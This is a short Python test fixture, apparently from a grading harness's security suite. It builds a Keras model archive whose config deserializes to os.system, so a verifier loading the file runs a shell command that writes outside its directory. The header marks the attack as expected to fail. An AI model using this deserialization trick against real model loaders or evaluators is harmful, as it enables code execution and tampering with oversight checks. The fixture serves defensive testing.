# attack: a hand-written archive whose model is os.system, to be run by the process that verifies
# exercise: xor
# expect: failed
# stopped by: hidden accuracy
# needs: nothing
import json
import zipfile

import keras

model = keras.Sequential([keras.Input((3,)), keras.layers.Dense(16), keras.layers.Dense(2, activation="softmax")])
command = "touch {outside}/was_here"
config = {
    "module": "os",
    "class_name": "system",
    "config": {"command": command},
    "registered_name": "system",
    "build_config": None,
    "inbound_nodes": [{"args": [command], "kwargs": {}}],
}


def save(_, path, *args, **kwargs):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__, "date_saved": "today"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", b"")


keras.src.saving.saving_lib.save_model = save
